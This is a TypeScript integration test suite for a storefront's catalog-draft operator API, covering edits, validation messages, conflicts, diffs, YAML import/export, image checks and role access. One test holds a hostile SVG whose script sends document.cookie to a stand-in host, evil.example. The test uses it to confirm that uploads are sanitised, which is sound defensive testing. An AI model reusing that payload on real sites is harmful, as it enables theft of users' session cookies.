/**
 * Catalog drafts on the operator API, as catalog operators use them: a draft copied from the live
 * catalog, entities edited with the validator's rules on the failing field, two editors on one
 * draft, the diff against the live catalog, the seed's YAML imported and exported back, images
 * made safe, every write in the audit log, and no other role let in.
 */
import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import YAML from 'yaml';
import type { CatalogDiff, CatalogDraft, CountryFile } from '@storefront/shared/contract';
import { apiRoot } from '../../src/paths';
import { draftImages } from '../../src/db/repositories/catalog-drafts';
import { describeOperatorApi, signInAs, type ConsoleClient, type OperatorApi } from '../support/operator-kit';

/** A PNG's signature, header chunk (its dimensions) and end chunk, as an image editor writes them. */
function pngOf(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(zlib.crc32(Buffer.concat([Buffer.from(type), data])));
    return Buffer.concat([length, Buffer.from(type), data, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 6, 0, 0, 0], 8);
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', header), chunk('IEND', Buffer.alloc(0))]);
}

const seedFile = (market: string) => fs.readFileSync(path.join(apiRoot, 'seed', 'catalog', `${market}.yaml`), 'utf8');

describeOperatorApi('catalog drafts', (api: OperatorApi) => {
  let editor: ConsoleClient;
  let second: ConsoleClient;
  let admin: ConsoleClient;
  beforeAll(async () => {
    editor = await signInAs(api, 'catalog');
    second = await signInAs(api, 'catalog');
    admin = await signInAs(api, 'admin');
  }, 120_000);

  const newDraft = async (client = editor, market = 'ae'): Promise<CatalogDraft> => {
    const answer = await client.post('/catalog/drafts', { market });
    expect(answer.statusCode).toBe(201);
    return answer.json();
  };
  const putEntity = (client: ConsoleClient, draft: { id: number }, kind: string, id: number, revision: number, entity: unknown) =>
    client.call('PUT', `/catalog/drafts/${draft.id}/entities/${kind}/${id}`, { revision, entity });

  it('a new draft is a copy of the live catalog of its market, with nothing to correct, listed among the market\'s drafts', async () => {
    const draft = await newDraft();
    expect(draft).toMatchObject({ market: 'ae', status: 'open', revision: 0, problems: [] });
    const seed = YAML.parse(seedFile('ae')) as CountryFile;
    expect(draft.document.cards.map((c) => c.id)).toEqual(seed.cards.map((c) => c.id));
    const list = (await editor.get('/catalog/drafts?market=ae')).json();
    expect(list.drafts.map((d: { id: number }) => d.id)).toContain(draft.id);
    expect((await editor.get(`/catalog/drafts/${draft.id}/diff`)).json().entries).toEqual([]);
  });

  it('an edited card is saved in the draft, audited with before and after, and the diff shows its annual fee old and new as a cost figure', async () => {
    const draft = await newDraft();
    const card = draft.document.cards[0];
    const oldFee = card.costs.annualFee;
    const edited = { ...card, costs: { ...card.costs, annualFee: oldFee + 100 }, name: { ...card.name, ar: 'بطاقة معدلة' } };
    const answer = await putEntity(editor, draft, 'card', card.id, 0, edited);
    expect(answer.statusCode).toBe(200);
    const saved: CatalogDraft = answer.json();
    expect(saved.revision).toBe(1);
    expect(saved.document.cards[0].costs.annualFee).toBe(oldFee + 100);

    const diff: CatalogDiff = (await editor.get(`/catalog/drafts/${draft.id}/diff`)).json();
    expect(diff.entries).toEqual(expect.arrayContaining([
      { kind: 'card', entityId: card.id, label: card.name.en, field: 'costs.annualFee', before: oldFee, after: oldFee + 100, costFigure: true },
      { kind: 'card', entityId: card.id, label: card.name.en, field: 'name.ar', before: card.name.ar, after: 'بطاقة معدلة', costFigure: false },
    ]));
    expect(diff.entries).toHaveLength(2);

    const audit = (await admin.get(`/audit?action=catalog-draft.entity-written&targetId=${draft.id}`)).json().entries;
    expect(audit).toHaveLength(1);
    expect(audit[0].before.entity.costs.annualFee).toBe(oldFee);
    expect(audit[0].after.entity.costs.annualFee).toBe(oldFee + 100);
    expect(audit[0].operatorEmail).toBe(editor.profile?.email);
  });

  it('refuses a bad value with the field\'s path and words an operator understands, and saves nothing', async () => {
    const draft = await newDraft();
    const card = draft.document.cards[0];
    const { ar: _ar, ...englishOnly } = card.name;
    const bad = { ...card, name: englishOnly, costs: { ...card.costs, annualFee: -5 } };
    const answer = await putEntity(editor, draft, 'card', card.id, 0, bad);
    expect(answer.statusCode).toBe(422);
    expect(answer.json().problems).toEqual([{ path: ['costs', 'annualFee'], message: 'Annual fee must be a number from 0 to 1,000,000,000' }]);

    // The shape is right but the market offers Arabic: the Arabic name is required.
    const untranslated = await putEntity(editor, draft, 'card', card.id, 0, { ...card, name: englishOnly });
    expect(untranslated.statusCode).toBe(422);
    expect(untranslated.json().problems).toEqual([{ path: ['name', 'ar'], message: 'Arabic text is required in this market' }]);

    const unknownBank = await putEntity(editor, draft, 'card', card.id, 0, { ...card, bankId: 999_999 });
    expect(unknownBank.json().problems).toEqual([{ path: ['bankId'], message: 'There is no bank 999999 in this market' }]);

    const after: CatalogDraft = (await editor.get(`/catalog/drafts/${draft.id}`)).json();
    expect(after.revision).toBe(0);
    expect(after.document.cards[0]).toEqual(card);
  });

  it('two editors on one draft: both keep their changes to different entries; a stale write of the same entry is refused with 409 and loses nothing', async () => {
    const draft = await newDraft();
    const [a, b] = draft.document.banks;
    const first = await putEntity(editor, draft, 'bank', a.id, 0, { ...a, name: { ...a.name, en: 'First Editor Bank' } });
    expect(first.statusCode).toBe(200);
    // The second editor opened the draft at revision 0 too and changes another bank: both changes stay.
    const other = await putEntity(second, draft, 'bank', b.id, 0, { ...b, name: { ...b.name, en: 'Second Editor Bank' } });
    expect(other.statusCode).toBe(200);
    expect((other.json() as CatalogDraft).document.banks.map((x) => x.name.en)).toEqual(expect.arrayContaining(['First Editor Bank', 'Second Editor Bank']));

    const stale = await putEntity(second, draft, 'bank', a.id, 0, { ...a, name: { ...a.name, en: 'Overwriting Bank' } });
    expect(stale.statusCode).toBe(409);
    expect(stale.json()).toMatchObject({ revision: 2 });
    const now: CatalogDraft = (await second.get(`/catalog/drafts/${draft.id}`)).json();
    expect(now.document.banks.find((x) => x.id === a.id)?.name.en).toBe('First Editor Bank');
    // Read again, the second editor's change of that bank goes through.
    const retried = await putEntity(second, draft, 'bank', a.id, now.revision, { ...now.document.banks[0], name: { ...a.name, en: 'Agreed Bank' } });
    expect(retried.statusCode).toBe(200);
    expect((retried.json() as CatalogDraft).revision).toBe(3);
  });

  it('the market\'s bonus is edited with its own check, and a removed entity leaves the draft', async () => {
    const draft = await newDraft();
    const refused = await editor.call('PUT', `/catalog/drafts/${draft.id}/market`, { revision: 0, bonusAmount: 'a lot', bonusLockDays: 30 });
    expect(refused.statusCode).toBe(422);
    expect(refused.json().problems).toEqual([{ path: ['bonusAmount'], message: 'Bonus amount must be a whole number from 0 to 1,000,000' }]);
    const saved = await editor.call('PUT', `/catalog/drafts/${draft.id}/market`, { revision: 0, bonusAmount: 250, bonusLockDays: 45 });
    expect((saved.json() as CatalogDraft).document).toMatchObject({ bonus: { amount: 250 }, bonusLockDays: 45 });
    const banner = draft.document.banners.find((b) => b.id !== 2)!;
    const removed = await editor.call('DELETE', `/catalog/drafts/${draft.id}/entities/banner/${banner.id}`, { revision: 1 });
    expect(removed.statusCode).toBe(200);
    expect((removed.json() as CatalogDraft).document.banners.map((b) => b.id)).not.toContain(banner.id);
    const diff: CatalogDiff = (await editor.get(`/catalog/drafts/${draft.id}/diff`)).json();
    expect(diff.entries).toEqual(expect.arrayContaining([
      expect.objectContaining({ kind: 'market', field: 'bonus.amount', after: 250 }),
      expect.objectContaining({ kind: 'banner', entityId: banner.id, field: '', after: null }),
    ]));
  });

  it('the seed\'s YAML imported as a draft and exported back is the same file', async () => {
    for (const market of ['ae', 'pk']) {
      const imported = await editor.post('/catalog/imports', { fileName: `${market}.yaml`, yaml: seedFile(market) });
      expect(imported.statusCode).toBe(201);
      const draft: CatalogDraft = imported.json();
      expect(draft).toMatchObject({ market, problems: [], title: `Imported from ${market}.yaml` });
      const exported = await editor.get(`/catalog/drafts/${draft.id}/export`);
      expect(exported.headers['content-disposition']).toContain('.yaml');
      expect(YAML.parse(exported.body)).toEqual(YAML.parse(seedFile(market)));
    }
    const live = await editor.get('/catalog/exports?market=sa');
    expect(YAML.parse(live.body)).toEqual(YAML.parse(seedFile('sa')));
    // The seed is version 1 of every market; a version that does not exist is a clear 404.
    const first = await editor.get('/catalog/exports?market=sa&version=1');
    expect(first.headers['content-disposition']).toBe('attachment; filename="sa-v1.yaml"');
    expect(YAML.parse(first.body)).toEqual(YAML.parse(seedFile('sa')));
    const none = await editor.get('/catalog/exports?market=sa&version=999');
    expect([none.statusCode, none.json().code]).toEqual([404, 'catalog.version-not-found']);
  });

  it('an import that is not a market\'s catalog file is refused with what is wrong', async () => {
    const notYaml = await editor.post('/catalog/imports', { yaml: 'country: ae\n  banks: [' });
    expect(notYaml.statusCode).toBe(422);
    expect(notYaml.json().problems[0].message).toMatch(/not valid YAML \(line \d+/);
    const seed = YAML.parse(seedFile('ae')) as CountryFile;
    seed.cards[1].costs.purchaseRate = 120;
    const outOfRange = await editor.post('/catalog/imports', { yaml: YAML.stringify(seed) });
    expect(outOfRange.statusCode).toBe(422);
    expect(outOfRange.json().problems).toEqual([{ path: ['cards', 1, 'costs', 'purchaseRate'], message: 'Purchase rate (% a year) must be a number from 0 to 99' }]);
  });

  it('an uploaded SVG comes back without its script, event handlers and external references; a PNG too large, too wide or not a PNG is refused', async () => {
    const draft = await newDraft();
    const svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10" onload="steal()">'
      + '<script>fetch("https://evil.example/?c=" + document.cookie)</script>'
      + '<image xlink:href="https://evil.example/track.png" width="1" height="1"/><rect width="10" height="10" fill="#123456"/></svg>';
    const uploaded = await editor.post('/catalog/images', { draftId: draft.id, folder: 'cards', name: 'new-card.svg', dataBase64: Buffer.from(svg).toString('base64') });
    expect(uploaded.statusCode).toBe(201);
    expect(uploaded.json()).toMatchObject({ contentType: 'image/svg+xml', removed: expect.arrayContaining(['script', 'onload']) });
    const [image] = await draftImages(api.app.db, draft.id);
    const stored = Buffer.from(image.body).toString('utf8');
    expect(stored).toContain('<rect');
    expect(stored).not.toMatch(/script|onload|evil\.example/);

    // The draft may now name the image: a card pointing at it has nothing to correct.
    const card = draft.document.cards[0];
    expect((await putEntity(editor, draft, 'card', card.id, 0, { ...card, image: 'new-card.svg' })).statusCode).toBe(200);
    const missing = await putEntity(editor, draft, 'card', card.id, 1, { ...card, image: 'never-uploaded.svg' });
    expect(missing.json().problems).toEqual([{ path: ['image'], message: 'The image never-uploaded.svg has not been uploaded' }]);

    const upload = (name: string, body: Buffer) => editor.post('/catalog/images', { draftId: draft.id, folder: 'cards', name, dataBase64: body.toString('base64') });
    const fine = await upload('card-art.png', pngOf(640, 400));
    expect(fine.statusCode).toBe(201);
    expect(fine.json()).toMatchObject({ contentType: 'image/png', width: 640, height: 400, removed: [] });
    const huge = await upload('huge.png', pngOf(4000, 400));
    expect(huge.statusCode).toBe(422);
    expect(huge.json().problems).toEqual([{ path: ['dataBase64'], message: 'A PNG image may be at most 2048 × 2048 pixels (this one is 4000 × 400)' }]);
    const heavy = await upload('heavy.png', Buffer.concat([pngOf(100, 100), Buffer.alloc(600 * 1024)]));
    expect(heavy.json().problems).toEqual([{ path: ['dataBase64'], message: 'A PNG image may be at most 512 KB' }]);
    const disguised = await upload('fake.png', Buffer.from(svg));
    expect(disguised.json().problems).toEqual([{ path: ['dataBase64'], message: 'The file is not a PNG image' }]);
  });

  it('a role other than catalog is refused every catalog draft route; admin may read drafts but not write them', async () => {
    const draft = await newDraft();
    const calls: [string, string, unknown?][] = [
      ['GET', '/catalog/drafts'], ['POST', '/catalog/drafts', { market: 'ae' }], ['GET', `/catalog/drafts/${draft.id}`],
      ['DELETE', `/catalog/drafts/${draft.id}`], ['PUT', `/catalog/drafts/${draft.id}/entities/bank/${draft.document.banks[0].id}`, { revision: 0, entity: draft.document.banks[0] }],
      ['PUT', `/catalog/drafts/${draft.id}/market`, { revision: 0, bonusAmount: 1, bonusLockDays: 1 }], ['GET', `/catalog/drafts/${draft.id}/diff`],
      ['GET', `/catalog/drafts/${draft.id}/export`], ['GET', '/catalog/exports?market=ae'], ['POST', '/catalog/imports', { yaml: seedFile('ae') }],
      ['POST', '/catalog/images', { draftId: draft.id, folder: 'cards', name: 'x.svg', dataBase64: 'PHN2Zy8+' }],
    ];
    for (const role of ['finance', 'support', 'analyst'] as const) {
      const client = await signInAs(api, role);
      for (const [method, route, body] of calls) {
        const answer = await client.call(method as 'GET', route, body);
        expect(`${role} ${method} ${route} ${answer.statusCode}`).toBe(`${role} ${method} ${route} 403`);
      }
    }
    for (const [method, route, body] of calls) {
      const answer = await admin.call(method as 'GET', route, body);
      expect(`admin ${method} ${route} ${answer.statusCode === 403 ? 'refused' : 'let through'}`)
        .toBe(`admin ${method} ${route} ${method === 'GET' ? 'let through' : 'refused'}`);
    }
    expect((await editor.get(`/catalog/drafts/${draft.id}`)).json().revision).toBe(0);
  });
});
